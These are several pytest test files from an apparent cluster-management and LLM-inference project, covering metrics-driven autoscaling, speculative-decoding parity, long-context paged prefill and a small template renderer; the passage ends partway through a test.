    rules = RuleEngine(store, rules=default_rules(), journal=api.journal,
                       now_fn=clk, registry=M.MetricsRegistry())
    autoscaler = ServeAutoscaler(db, api.service, rules, journal=api.journal,
                                 cooldown_s=30, now_fn=clk,
                                 registry=M.MetricsRegistry())
    coll.hooks.append(rules.evaluate)
    coll.hooks.append(autoscaler.tick)
    api.collector, api.rule_engine, api.autoscaler = coll, rules, autoscaler
    engine.collector = coll
    engine.flight_dir = str(tmp_path)

    server, thread = make_server(api)
    thread.start()
    client = _Client(server.server_address[1])
    client.login()
    try:
        out = _create_cluster(client)
        assert engine.wait(out["task_id"], timeout=60)
        _, app_out, _ = client.req(
            "POST", "/api/v1/clusters/t1/apps",
            {"template": "llama3-8b-serve",
             "overrides": {"replicas": 1, "max_replicas": 3}}, expect=202)
        assert engine.wait(app_out["task_id"], timeout=60)
        app_id = app_out["app"]["id"]

        # two in-process replicas behind the registered-target API shape
        t1 = {"text": _serve_text(10, 0, 0.5)}
        t2 = {"text": _serve_text(10, 0, 0.5)}
        coll.add_target("replica1", fetch=lambda: t1["text"],
                        labels={"job": "serve"})
        coll.add_target("replica2", fetch=lambda: t2["text"],
                        labels={"job": "serve"})
        coll.scrape_once()
        _, targets, _ = client.req("GET", "/api/v1/obs/targets", expect=200)
        assert {t["name"] for t in targets["items"]} == {"replica1",
                                                         "replica2"}
        assert not any(t["stale"] for t in targets["items"])

        # hot: slow TTFT sustained past for_s -> firing -> scale up
        fast, slow = 10, 0
        for _ in range(6):
            clk.tick(5)
            slow += 20
            t1["text"] = t2["text"] = _serve_text(fast, slow, 0.95)
            coll.scrape_once()
        _, alerts, _ = client.req("GET", "/api/v1/obs/alerts?state=firing",
                                  expect=200)
        assert "infer-ttft-p95-high" in {a["name"] for a in alerts["items"]}
        _, q, _ = client.req(
            "GET", "/api/v1/obs/query?metric=ko_work_infer_ttft_seconds"
                   "&op=p95&window=60", expect=200)
        assert q["value"] is not None and q["value"] > 0.5
        assert db.get("apps", app_id)["manifest"]["spec"]["replicas"] == 2
        assert autoscaler.recent()[-1]["direction"] == "up"

        # cold: alert resolves, sustained idleness scales back down
        for _ in range(26):
            clk.tick(5)
            fast += 20
            t1["text"] = t2["text"] = _serve_text(fast, slow, 0.1)
            coll.scrape_once()
        _, alerts, _ = client.req("GET", "/api/v1/obs/alerts", expect=200)
        by_name = {a["name"]: a["state"] for a in alerts["items"]}
        assert by_name["infer-ttft-p95-high"] != "firing"
        assert db.get("apps", app_id)["manifest"]["spec"]["replicas"] == 1

        # killed task -> readable flight snapshot with the last samples
        _, fail_out, _ = client.req(
            "POST", "/api/v1/clusters/t1/apps",
            {"template": "llama3-8b-serve"}, expect=202)
        assert engine.wait(fail_out["task_id"], timeout=60)
        task = db.get("tasks", fail_out["task_id"])
        assert task["status"] == "Failed"
        records = find_flight_records(str(tmp_path))
        assert records, "dead phase must leave a flight record"
        rec = load_flight_record(records[-1])
        assert rec["task_id"] == fail_out["task_id"]
        assert rec["phase"] == "app-deploy" and rec["rc"] == 2
        assert any(s["name"] == "ko_work_infer_batch_occupancy_ratio"
                   for s in rec["samples"])
        assert {t["name"] for t in rec["targets"]} >= {"replica1",
                                                       "replica2"}

        # healthz carries collector freshness
        _, hz, _ = client.req("GET", "/healthz", expect=200)
        assert hz["collector"]["target_count"] == 2
    finally:
        engine.shutdown()
        server.shutdown()


def test_obs_endpoints_503_when_collector_unwired():
    from kubeoperator_trn.cluster.api import Api
    from kubeoperator_trn.cluster.db import DB

    api = Api(DB(":memory:"), service=None, require_auth=False)
    from kubeoperator_trn.cluster.api import ApiError

    for handler in (api.obs_targets, api.obs_alerts):
        with pytest.raises(ApiError) as ei:
            handler({})
        assert ei.value.status == 503
    with pytest.raises(ApiError) as ei:
        api.obs_query({"metric": "x"})
    assert ei.value.status == 503


# -- sweep triage prefers the flight snapshot (satellite) ---------------

def test_sweep_triage_prefers_flight_record_over_spans(tmp_path):
    import os
    import sys

    sys.path.insert(0, os.path.join(os.path.dirname(__file__),
                                    "..", "tools"))
    from sweep import run_experiment

    code = (
        "import json, os\n"
        "d = os.environ['KO_TELEMETRY_DIR']\n"
        "open(os.path.join(d, 'spans.jsonl'), 'w').write(\n"
        "    json.dumps({'name': 'x.span'}) + '\\n')\n"
        "json.dump({'task_id': 't9', 'rc': 2, 'samples': []},\n"
        "          open(os.path.join(d, 'flight_t9_1.json'), 'w'))\n"
        "raise SystemExit(3)\n")
    row = run_experiment("x", {}, cmd=[sys.executable, "-c", code],
                         timeout=60)
    assert row["rc"] == 3
    assert row["triage"]["flight"]["task_id"] == "t9"
    assert row["triage"]["telemetry_tail"] is None

    # without a flight record the spans tail is still attached
    code_no_flight = (
        "import json, os\n"
        "d = os.environ['KO_TELEMETRY_DIR']\n"
        "open(os.path.join(d, 'spans.jsonl'), 'w').write(\n"
        "    json.dumps({'name': 'x.span'}) + '\\n')\n"
        "raise SystemExit(3)\n")
    row = run_experiment("x", {}, cmd=[sys.executable, "-c",
                                       code_no_flight], timeout=60)
    assert row["triage"]["telemetry_tail"][-1]["name"] == "x.span"
    assert "flight" not in row["triage"]


# -- target deregistration over the API (ISSUE 11 satellite) ------------

def test_target_deregistration_drops_out_of_api(monkeypatch):
    """The drain protocol's last step: DELETE /api/v1/obs/targets/<name>
    (unauthenticated, like registration — replicas carry no admin token)
    must drop the replica from the registry the gateway syncs from, and
    a stale target must be flagged so the gateway's membership sync can
    skip it."""
    from kubeoperator_trn.cluster.api import Api, make_server
    from kubeoperator_trn.cluster.db import DB
    from tests.test_telemetry import _Client

    clk = FakeClock()
    coll = Collector(scrape_s=5, stale_after_s=12, now_fn=clk,
                     registry=M.MetricsRegistry())
    api = Api(DB(":memory:"), service=None, require_auth=False)
    api.collector = coll
    server, thread = make_server(api)
    thread.start()
    try:
        client = _Client(server.server_address[1])
        for name in ("r1", "r2"):
            client.req("POST", "/api/v1/obs/targets",
                       {"name": name, "url": f"http://{name}:9100/metrics",
                        "labels": {"job": "serve"}}, expect=201)
        _, out, _ = client.req("GET", "/api/v1/obs/targets", expect=200)
        assert {t["name"] for t in out["items"]} == {"r1", "r2"}

        # r2 drains and deregisters itself: it must vanish immediately
        status, removed, _ = client.req(
            "DELETE", "/api/v1/obs/targets/r2", expect=200)
        assert removed["removed"] == "r2"
        _, out, _ = client.req("GET", "/api/v1/obs/targets", expect=200)
        assert [t["name"] for t in out["items"]] == ["r1"]
        # idempotence boundary: a second delete is a clean 404, not a 500
        client.req("DELETE", "/api/v1/obs/targets/r2", expect=404)

        # r1 goes silent: past stale_after_s the API flags it so the
        # gateway's sync (which keeps only fresh job=serve rows) skips it
        clk.tick(13)
        _, out, _ = client.req("GET", "/api/v1/obs/targets", expect=200)
        [t] = out["items"]
        assert t["name"] == "r1" and t["stale"]
    finally:
        server.shutdown()
