"""moe_probe (ISSUE 10): dispatch-impl knob + the sweep row's probe."""

import json
import os
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def test_dispatch_cost_model_shape():
    sys.path.insert(0, os.path.join(REPO, "tools"))
    try:
        from moe_probe import MIN_RATIO, dispatch_cost
    finally:
        sys.path.pop(0)

    # moe_200m bench shape: the ISSUE-10 acceptance floor on both axes
    t, e, c, d, k = 32768, 8, 10240, 1024, 2
    ein = dispatch_cost("einsum", t, e, c, d, k)
    grp = dispatch_cost("grouped", t, e, c, d, k)
    assert ein["flops"] / grp["flops"] >= MIN_RATIO
    assert ein["bytes"] / grp["bytes"] >= MIN_RATIO
    # einsum dispatch is dominated by the two [T,E,C,D] contractions
    assert ein["flops"] > 4 * t * e * c * d * 0.99
    # grouped keeps only the grouped buffer + activations resident
    assert grp["bytes"] < (2 * e * c * d + 2 * t * d) * 4 * 1.1


def test_moe_probe_fast_subprocess(tmp_path):
    """The sweep row's exact command under KO_PROBE_FAST: exit 0 IS the
    temp-0 parity + >=4x analytic-advantage acceptance check."""
    env = dict(os.environ, KO_PROBE_FAST="1", JAX_PLATFORMS="cpu",
               KO_TELEMETRY_DIR=str(tmp_path))
    proc = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "moe_probe.py")],
        env=env, cwd=REPO, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    row = json.loads(proc.stdout.strip().splitlines()[-1])
    assert row["metric"] == "moe_grouped_vs_einsum"
    assert row["ok"] and row["parity"]["ok"]
    assert row["bench_ratio"]["flops"] >= 4.0
    assert row["bench_ratio"]["bytes"] >= 4.0
    drops = row["parity"]["dropped_tokens"]
    assert drops["grouped"] == drops["einsum"] > 0


@pytest.mark.slow
def test_moe_probe_full_subprocess(tmp_path):
    """Full (non-fast) probe shape — same acceptance, tighter timing."""
    env = dict(os.environ, JAX_PLATFORMS="cpu",
               KO_TELEMETRY_DIR=str(tmp_path))
    env.pop("KO_PROBE_FAST", None)
    proc = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "moe_probe.py")],
        env=env, cwd=REPO, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    row = json.loads(proc.stdout.strip().splitlines()[-1])
    assert row["ok"]
    assert row["parity"]["loss_abs_diff"] <= 1e-5
    assert row["parity"]["grad_max_diff"] <= 1e-4
