"""Speculative decoding plane (ISSUE 16): accept-op semantics, drafter
edge cases, scheduler draft–verify parity, KV rollback safety, and the
acceptance-telemetry recycle fix.

Temperature-0 parity is the load-bearing invariant: greedy acceptance
makes speculative output *exactly* the non-speculative stream, so every
parity test here compares committed tokens bitwise, not approximately.
Everything drives ``step()`` on the test thread, as in test_scheduler.
"""

import numpy as np
import pytest

from kubeoperator_trn.infer import engine
from kubeoperator_trn.infer.paged_kv import init_pool
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.infer.specdec import (
    EWMA_ALPHA, NgramDrafter, PAD_ID, SpecDecoder)
from kubeoperator_trn.models import llama
from kubeoperator_trn.ops.specdec import resolve_spec_impl, spec_accept_ref
from kubeoperator_trn.telemetry import MetricsRegistry

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def make_sched(params, **kw):
    kw.setdefault("slots", 4)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    sc = SchedulerConfig(**kw)
    return ContinuousBatchingScheduler(CFG, params, sc,
                                       registry=MetricsRegistry())


def drain(sched, max_steps=2000):
    steps = 0
    while sched.pending:
        sched.step()
        steps += 1
        assert steps < max_steps, "scheduler did not converge"
    return steps


class WrongDrafter:
    """Never-matching proposals: forces every verify iteration to reject
    the whole draft and roll back."""

    name = "wrong"

    def propose(self, tokens, k):
        last = int(tokens[-1]) if len(tokens) else 0
        return ((last + 1 + np.arange(k, dtype=np.int32))
                % CFG.vocab_size).astype(np.int32)


# --------------------------------------------------- accept op semantics

def _onehot_logits(greedy_rows, vocab=16):
    """[S, K+1, V] logits whose argmax per position is greedy_rows."""
    g = np.asarray(greedy_rows, np.int32)
    out = np.zeros((*g.shape, vocab), np.float32)
    s, k1 = g.shape
    out[np.arange(s)[:, None], np.arange(k1)[None], g] = 5.0
    return out


def test_spec_accept_ref_full_partial_and_none():
    # greedy row j is the model's argmax AFTER fed token j; draft
    # column j holds d_{j+1}, accepted iff it equals greedy column j
    greedy = [[3, 5, 7, 9],   # drafts all match -> accept 3, bonus 9
              [3, 5, 7, 9],   # mismatch at draft 2 -> accept 1, bonus 5
              [3, 5, 7, 9]]   # mismatch at draft 1 -> accept 0, bonus 3
    draft = np.array([[3, 5, 7, PAD_ID],
                      [3, 8, 7, PAD_ID],
                      [4, 5, 7, PAD_ID]], np.int32)
    a, b = spec_accept_ref(jnp_arr(_onehot_logits(greedy)), draft)
    assert list(np.asarray(a)) == [3, 1, 0]
    assert list(np.asarray(b)) == [9, 5, 3]


def test_spec_accept_pad_truncates_short_drafts():
    # slot drafted only 1 real token; the rest is PAD_ID, which can
    # never equal an argmax — accept_len self-caps without clamping
    greedy = [[3, 3, 3, 3]]
    draft = np.array([[3, PAD_ID, PAD_ID, PAD_ID]], np.int32)
    a, b = spec_accept_ref(jnp_arr(_onehot_logits(greedy)), draft)
    assert int(a[0]) == 1 and int(b[0]) == 3


def test_spec_accept_all_pad_is_plain_decode():
    greedy = [[7, 1, 1, 1]]
    draft = np.full((1, 4), PAD_ID, np.int32)
    a, b = spec_accept_ref(jnp_arr(_onehot_logits(greedy)), draft)
    assert int(a[0]) == 0 and int(b[0]) == 7


def jnp_arr(x):
    import jax.numpy as jnp
    return jnp.asarray(x)


def test_resolve_spec_impl(monkeypatch):
    assert resolve_spec_impl("jax") == "jax"
    monkeypatch.setenv("KO_INFER_SPEC_IMPL", "jax")
    assert resolve_spec_impl() == "jax"
    assert resolve_spec_impl("auto") in ("jax", "bass")
    with pytest.raises(ValueError):
        resolve_spec_impl("cuda")


# --------------------------------------------------- drafter edge cases

def test_ngram_empty_and_single_token_history():
    d = NgramDrafter(3)
    assert d.propose(np.zeros(0, np.int32), 4).size == 0
    assert d.propose(np.array([5], np.int32), 4).size == 0
    assert d.propose(np.array([1, 2, 3, 1, 2], np.int32), 0).size == 0


def test_ngram_history_shorter_than_order_falls_back():
    # 3 tokens can't host a 3-gram tail + earlier occurrence; the
    # drafter degrades to the longest order that fits (here 1)
    d = NgramDrafter(3)
    got = d.propose(np.array([1, 2, 1], np.int32), 4)
    assert list(got) == [2, 1]


def test_ngram_prefers_most_recent_match_and_self_overlap():
    d = NgramDrafter(3)
    seq = np.array([1, 2, 3, 1, 2, 3, 1, 2], np.int32)
    # tail 3-gram [3,1,2] last occurs at index 2 -> continuation from 5
    assert list(d.propose(seq, 4)) == [3, 1, 2]
    # periodic span: proposal extends the cycle
    assert list(d.propose(seq, 2)) == [3, 1]


def test_ngram_no_match_drafts_nothing():
    d = NgramDrafter(2)
    assert d.propose(np.array([1, 2, 3, 4, 5], np.int32), 4).size == 0


def test_ngram_rejects_bad_order():
    with pytest.raises(ValueError):
        NgramDrafter(0)


# ------------------------------------------- telemetry: EWMA slot reset

def test_specdecoder_ewma_tracks_and_resets():
    sd = SpecDecoder(4, slots=2, impl="jax", registry=MetricsRegistry())
    assert sd.ewma(0) != sd.ewma(0)  # NaN: no observation yet
    sd.observe(0, 2, 4)
    assert sd.ewma(0) == 0.5
    sd.observe(0, 4, 4)
    assert sd.ewma(0) == pytest.approx(0.5 + EWMA_ALPHA * 0.5)
    sd.observe(0, 0, 0)  # draftless iteration is not evidence
    assert sd.ewma(0) == pytest.approx(0.5 + EWMA_ALPHA * 0.5)
    sd.reset_slot(0)
    assert sd.ewma(0) != sd.ewma(0)
    assert sd.m["drafted"].value == 8 and sd.m["accepted"].value == 6
    assert sd.status()["accept_ewma_mean"] is None


def test_specdecoder_rejects_k0():
    with pytest.raises(ValueError):
        SpecDecoder(0, slots=2, impl="jax", registry=MetricsRegistry())


def test_scheduler_resets_ewma_on_completion(params):
    s = make_sched(params, spec_k=3, max_seq=64)
    h = s.submit(np.array([3, 1, 3, 1, 3], np.int32), max_new_tokens=8)
    drain(s)
    h.result(timeout=0)
    # satellite fix: slot recycle must not leak the finished request's
    # acceptance profile into the next occupant's autoscaler signal
    assert all(e != e for e in s.spec._ewma)


# ------------------------------------ scheduler draft–verify invariants

def _mixed_prompts():
    rng = np.random.default_rng(11)
    reqs = [rng.integers(0, CFG.vocab_size, size=n).astype(np.int32)
            for n in (3, 7, 12, 5)]
    # one highly periodic prompt so the n-gram drafter actually drafts
    reqs.append(np.array([9, 4, 2, 9, 4, 2, 9, 4], np.int32))
    return reqs


def test_spec_off_has_no_spec_plane(params):
    s = make_sched(params, max_seq=64)
    assert s.sc.spec_k == 0 and s.spec is None


def test_spec_parity_temp0_vs_plain(params):
    plain = make_sched(params, max_seq=64)
    spec = make_sched(params, spec_k=3, max_seq=64)
    prompts = _mixed_prompts()
    a = [plain.submit(p, max_new_tokens=12) for p in prompts]
    b = [spec.submit(p, max_new_tokens=12) for p in prompts]
    drain(plain), drain(spec)
    assert [h.result(timeout=0) for h in a] == \
        [h.result(timeout=0) for h in b]


def test_spec_truncates_drafts_at_max_new_boundary(params):
    # k=4 but max_new=2: kmax clamps so a commit can never overshoot
    plain = make_sched(params, max_seq=64)
    spec = make_sched(params, spec_k=4, max_seq=64)
    prompts = _mixed_prompts()
    a = [plain.submit(p, max_new_tokens=2) for p in prompts]
    b = [spec.submit(p, max_new_tokens=2) for p in prompts]
    drain(plain), drain(spec)
    for ha, hb in zip(a, b):
        assert hb.result(timeout=0) == ha.result(timeout=0)
        assert len(hb.tokens) == 2


def test_spec_rollback_heavy_parity_and_no_leak(params):
    # every iteration proposes garbage -> full rejection + rewind; the
    # committed stream must still be the plain-decode stream and the
    # pool must drain clean
    plain = make_sched(params, max_seq=64)
    spec = make_sched(params, spec_k=4, max_seq=64)
    spec.spec.drafter = WrongDrafter()
    prompts = _mixed_prompts()
    a = [plain.submit(p, max_new_tokens=10) for p in prompts]
    b = [spec.submit(p, max_new_tokens=10) for p in prompts]
    drain(plain), drain(spec)
    assert [h.result(timeout=0) for h in a] == \
        [h.result(timeout=0) for h in b]
    assert spec.spec.m["drafted"].value > 0
    # the prefix cache legitimately retains refcount-0 blocks; hand
    # them back before auditing the free list
    if spec.prefix is not None:
        spec.prefix.clear()
    assert spec.alloc.capacity - spec.alloc.num_free == 0


def test_spec_rollback_across_block_boundary_keeps_shared_blocks(params):
    # block_size=4 + shared prefix: the second request's prompt blocks
    # are prefix-cache shared (refcounted).  Garbage drafts force
    # rewinds that repeatedly cross block boundaries; rollback must not
    # decref shared blocks (it never touches the table/allocator), so
    # the cache survives and the pool drains clean.
    shared = np.array([5, 9, 5, 9, 5, 9, 5, 9], np.int32)  # 2 full blocks

    def run(spec_k):
        s = make_sched(params, spec_k=spec_k, block_size=4,
                       prefill_chunk=4, prefix_cache=True, max_seq=64,
                       num_blocks=32)
        if s.spec is not None:
            s.spec.drafter = WrongDrafter()
        outs = []
        for tail in ([1, 2], [3], [4, 4, 4]):
            h = s.submit(np.concatenate([shared,
                                         np.array(tail, np.int32)]),
                         max_new_tokens=9)
            drain(s)
            outs.append(h.result(timeout=0))
        return s, outs

    base, outs_plain = run(0)
    s, outs_spec = run(3)
    assert outs_spec == outs_plain
    assert s.m["prefix_hits"].value >= 1, "shared blocks not exercised"
    assert s.spec.m["drafted"].value > 0
    retained = s.prefix.clear()
    assert retained > 0, "prefix cache held no blocks — rollback freed them?"
    base.prefix.clear()
    for sched in (base, s):
        assert sched.alloc.capacity - sched.alloc.num_free == 0


def test_spec_temperature_sampling_rides_verify_unchanged(params):
    # temp>0 slots go through the verify dispatch draftless; column 0
    # is the exact single-token decode row and the legacy sampling key
    # chain is reused, so sampled output is bitwise identical too
    plain = make_sched(params, max_seq=64)
    spec = make_sched(params, spec_k=3, max_seq=64)
    prompts = _mixed_prompts()
    kw = dict(max_new_tokens=8, temperature=0.8, top_k=8, seed=123)
    a = [plain.submit(p, **kw) for p in prompts]
    b = [spec.submit(p, **kw) for p in prompts]
    drain(plain), drain(spec)
    assert [h.result(timeout=0) for h in a] == \
        [h.result(timeout=0) for h in b]


def test_scheduler_rejects_spec_k_too_large_for_max_seq(params):
    with pytest.raises(ValueError):
        make_sched(params, spec_k=16, max_seq=16)


# -------------------------------------------- engine verify-step parity

def test_paged_verify_ntok1_matches_decode_step(params):
    # n_tok == 1 must degenerate to paged_decode_step: same positions,
    # same attention bound, column 0 is the plain decode computation
    bs, nb, mb, ns = 8, 6, 4, 2
    prompt = np.array([3, 1, 4, 1, 5, 9], np.int32)
    table = np.zeros((ns, mb), np.int32)
    table[0, :2] = [1, 2]
    lens = np.array([len(prompt), 0], np.int32)

    def prefill():
        pool = init_pool(CFG, num_blocks=nb, block_size=bs)
        toks = np.zeros(bs, np.int32)
        toks[:len(prompt)] = prompt
        _, pool = engine.paged_prefill_chunk(
            CFG, params, pool, jnp_arr(toks), jnp_arr(table[0]),
            0, len(prompt))
        return pool

    ld, _ = engine.paged_decode_step(
        CFG, params, prefill(), jnp_arr(np.array([7, 0], np.int32)),
        jnp_arr(lens), jnp_arr(table))
    toks = np.zeros((ns, 4), np.int32)
    toks[0, 0] = 7
    lv, _ = engine.paged_verify_step(
        CFG, params, prefill(), jnp_arr(toks), jnp_arr(lens),
        jnp_arr(np.ones(ns, np.int32)), jnp_arr(table))
    assert lv.shape == (ns, 4, CFG.vocab_size)
    np.testing.assert_allclose(np.asarray(lv[0, 0]), np.asarray(ld[0]),
                               rtol=1e-5, atol=1e-5)
    assert int(np.argmax(lv[0, 0])) == int(np.argmax(ld[0]))


# ------------------------------------------------------- lint compliance

def test_spec_plane_is_kolint_clean():
    import os

    from tools.kolint import check_source

    repo = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    for rel in ("kubeoperator_trn/infer/specdec.py",
                "kubeoperator_trn/ops/specdec.py",
                "kubeoperator_trn/kernels/spec_verify_bass.py"):
        with open(os.path.join(repo, rel)) as f:
            findings = check_source(f.read(), rel)
        assert findings == [], f"{rel}: {findings}"
