"""Long-context structural tests (ROADMAP item 4, first step; ISSUE 18).

A 32k-token prompt chunk-prefilled through the paged serving pool on
CPU: the point is not throughput but that every structural piece holds
at scale — block tables spanning hundreds of pages, the chunked
prefill loop's position bookkeeping across dozens of dispatches, the
prefill-side byte accounting, and the zero-leak block audit after the
sequence drains.  The attention numerics at 32k history are pinned by
the chunked-prefill jax twin (`paged_prefill_blockwise`) against
`_attend_cached`'s gathered-copy reference — the same pairing the
concourse-gated kernel tests use, so a CPU pass here transfers to the
kernel path on neuron.

The model is deliberately minimal (dim 32, 2 layers) but the reference
gathered-copy einsum is still quadratic in the context, so the full
32k end-to-end drive is ``slow``-marked (~7 min on a CI box: every
chunk pays the padded [C, MB*BS] width).  Tier-1 gets the same
structural assertions at 8k (128 pages — still "block tables at
scale") plus the 32k-history twin parity, which is cheap because the
twin reads only valid pages.
"""

import dataclasses

import numpy as np
import pytest

import jax.numpy as jnp

from kubeoperator_trn.infer.engine import _attend_cached
from kubeoperator_trn.infer.paged_kv import blocks_needed
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.models import llama
from kubeoperator_trn.ops.paged_attn import paged_prefill_blockwise
from kubeoperator_trn.telemetry import MetricsRegistry

CTX = 32768

CFG = dataclasses.replace(
    llama.PRESETS["llama3_tiny"],
    dim=32, n_heads=2, n_kv_heads=1, ffn_dim=64,
    max_seq_len=CTX + 64)


def _drive_long_prompt(ctx, bs, chunk, min_pages):
    """Chunk-prefill one near-``ctx``-length prompt through the paged
    pool and assert the structural invariants: the block table is wired
    up front at full width, positions advance one chunk per dispatch,
    the prefill byte accounting and TTFT split are live, and no block
    leaks once the sequence retires."""
    params = llama.init_params_numpy(CFG, 11)
    max_new = 2
    prompt_len = ctx - 8
    sc = SchedulerConfig(slots=1, block_size=bs, prefill_chunk=chunk,
                         max_seq=ctx, prefix_cache=False)
    s = ContinuousBatchingScheduler(CFG, params, sc,
                                    registry=MetricsRegistry())
    rng = np.random.default_rng(0)
    prompt = rng.integers(0, CFG.vocab_size,
                          size=prompt_len).astype(np.int32)
    h = s.submit(prompt, max_new_tokens=max_new)

    need = blocks_needed(prompt_len + max_new, bs)
    assert need >= min_pages, "the point is a table at scale"

    # run to mid-prefill: the full table must be wired up front and the
    # position bookkeeping must advance one chunk per dispatch
    steps = 0
    while not (h.state == "prefill" and h.pos >= 2 * chunk):
        s.step()
        steps += 1
        assert steps < 100
    assert len(h.blocks) == need
    assert np.count_nonzero(s._tables[h.slot]) == need
    assert h.pos % chunk == 0
    # prefill byte accounting is live mid-prompt (satellite 1)
    assert s.m["attn_bytes"].labels(impl="jax").value > 0
    rep = s.attn_report()
    assert rep["prefill_step_bytes"] > 0
    assert rep["prefill_step_bytes"] <= rep["prefill_step_bytes_padded"]

    while s.pending:
        s.step()
        steps += 1
        assert steps < 500, "long-context prefill did not converge"
    out = h.result(timeout=0)
    assert len(out) == prompt_len + max_new
    assert s.m["ttft_queue"].count == 1
    assert s.m["ttft_prefill"].count == 1
    assert h.ttft_s is not None
    # zero leaked blocks once the sequence retires
    assert s.alloc.num_used == 0


def test_8k_prompt_chunk_prefill_through_pool():
    # tier-1-sized: 128 pages, 4 chunk dispatches
    _drive_long_prompt(8192, 64, 2048, min_pages=128)


@pytest.mark.slow
def test_32k_prompt_chunk_prefill_through_pool():
    # the full ROADMAP-item-4 scale: 512 pages, 8 chunk dispatches —
    # quadratic on the reference einsum, so slow-gated
    _drive_long_prompt(CTX, 64, 4096, min_pages=512)


def test_twin_parity_at_32k_history():
    # one chunk attending a 32k-token paged history: the jax twin must
    # match scatter-then-gathered-copy bit-for-bit in structure and to
    # tolerance in value, and the fused scatter must land the same pool
    rng = np.random.default_rng(1)
    b, c, h, kvh, hd, bs = 1, 128, 2, 1, 16, 64
    mb = CTX // bs  # 512 pages
    start, nv = CTX - 256, 100  # deep, non-page-aligned, ragged tail
    nb = mb + 1
    q = jnp.asarray(rng.normal(size=(b, c, h, hd)), jnp.float32)
    knew = jnp.asarray(rng.normal(size=(b, c, kvh, hd)), jnp.float32)
    vnew = jnp.asarray(rng.normal(size=(b, c, kvh, hd)), jnp.float32)
    ck = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), jnp.float32)
    cv = jnp.asarray(rng.normal(size=(nb, bs, kvh, hd)), jnp.float32)
    tables = jnp.asarray(rng.permutation(nb - 1)[:mb][None] + 1,
                         jnp.int32)
    q_pos = jnp.asarray([start], jnp.int32)[:, None] \
        + jnp.arange(c, dtype=jnp.int32)[None]
    wm = (jnp.arange(c, dtype=jnp.int32) < nv)[None]
    valid = jnp.asarray([start + nv], jnp.int32)

    got, ck2, cv2 = paged_prefill_blockwise(
        q, knew, vnew, ck, cv, q_pos, kvh, valid, tables, wm,
        page_tile=64)

    li = jnp.clip(q_pos // bs, 0, mb - 1)
    phys = jnp.where(wm, jnp.take_along_axis(tables, li, axis=1), 0)
    off = jnp.where(wm, q_pos % bs, 0)
    ck_ref = ck.at[phys.reshape(-1), off.reshape(-1)].set(
        knew.reshape(-1, kvh, hd))
    cv_ref = cv.at[phys.reshape(-1), off.reshape(-1)].set(
        vnew.reshape(-1, kvh, hd))
    want = _attend_cached(q, ck_ref, cv_ref, q_pos, kvh, valid, tables)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=3e-5, atol=3e-5)
    np.testing.assert_array_equal(np.asarray(ck2), np.asarray(ck_ref))
    np.testing.assert_array_equal(np.asarray(cv2), np.asarray(cv_ref))
