"""Jinja-lite renderer: the subset ansible would render for our
playbooks (SURVEY.md §2.1 playbook layer; VERDICT r1 item 5)."""

import pytest

from kubeoperator_trn.cluster.templating import (
    UndefinedVariable, build_context, render, render_expression,
)

CTX = {
    "kube_version": "1.28.4",
    "components": {"containerd": "1.7.5", "calico": "3.26"},
    "cni_plugin": "calico",
    "neuron_stack": {"driver": "2.16", "efa-installer": "1.30"},
    "groups": {
        "kube_control_plane": ["m0", "m1"],
        "etcd": ["m0", "m1", "m2"],
        "kube_node": [],
    },
    "flag": True,
}


def test_simple_and_dotted():
    assert render("v={{ kube_version }}", CTX) == "v=1.28.4"
    assert render("{{ components.containerd }}", CTX) == "1.7.5"
    assert render("{{ neuron_stack['efa-installer'] }}", CTX) == "1.30"


def test_index_indirection_and_join():
    assert render("{{ groups.kube_control_plane[0] }}", CTX) == "m0"
    assert render("{{ components[cni_plugin] }}", CTX) == "3.26"
    assert render("{{ groups.etcd | join(',') }}", CTX) == "m0,m1,m2"
    assert render("{{ groups.kube_node | join(' ') }}", CTX) == ""


def test_default_filter():
    assert render("{{ nope | default('x') }}", CTX) == "x"
    assert render("{{ kube_version | default('x') }}", CTX) == "1.28.4"
    assert render("{{ nope | default([]) | join(',') }}", CTX) == ""
    assert render("{{ components.nope | default('latest') }}", CTX) == "latest"


def test_undefined_raises():
    with pytest.raises(UndefinedVariable):
        render("{{ nope }}", CTX)
    with pytest.raises(UndefinedVariable):
        render("{{ components.nope }}", CTX)
    with pytest.raises(UndefinedVariable):
        render("{{ components[nope_key] }}", CTX)


def test_bool_renders_lowercase():
    assert render("{{ flag }}", CTX) == "true"


def test_multiple_expressions_one_line():
    out = render("a={{ kube_version }} b={{ cni_plugin }}", CTX)
    assert out == "a=1.28.4 b=calico"


def test_render_expression_returns_value():
    assert render_expression("groups.etcd", CTX) == ["m0", "m1", "m2"]


def test_build_context_groups_and_precedence():
    inv = {"all": {
        "hosts": {"n0": {}, "n1": {}},
        "children": {"kube_control_plane": {"hosts": {"n0": {}}}},
        "vars": {"kube_version": "1.28.4", "cni_plugin": "calico"},
    }}
    ctx = build_context(inv, {"kube_version": "1.29.0"})
    assert ctx["kube_version"] == "1.29.0"  # extra vars win
    assert ctx["groups"]["kube_control_plane"] == ["n0"]
    assert ctx["groups"]["etcd"] == []  # standard groups always defined
    assert ctx["groups"]["all"] == ["n0", "n1"]


def test_default_rescues_missing_path_and_indirection():
    # {{ missing.sub | default('x') }} — the path after a missing head
    # must still parse so default() applies (code-review r2 finding)
    assert render("{{ missing.sub | default('x') }}", {}) == "x"
    assert render("{{ components[cni_plugin] | default('latest') }}", {}) == "latest"
    assert render("{{ a.b.c.d | default('deep') }}", {"a": {}}) == "deep"


def test_join_with_pipe_separator():
    assert render("{{ xs | join('|') }}", {"xs": ["a", "b"]}) == "a|b"


def test_migration_of_plaintext_users():
    from kubeoperator_trn.cluster.api import Api, verify_password
    from kubeoperator_trn.cluster.db import DB
    from kubeoperator_trn.cluster.service import ClusterService

    db = DB(":memory:")
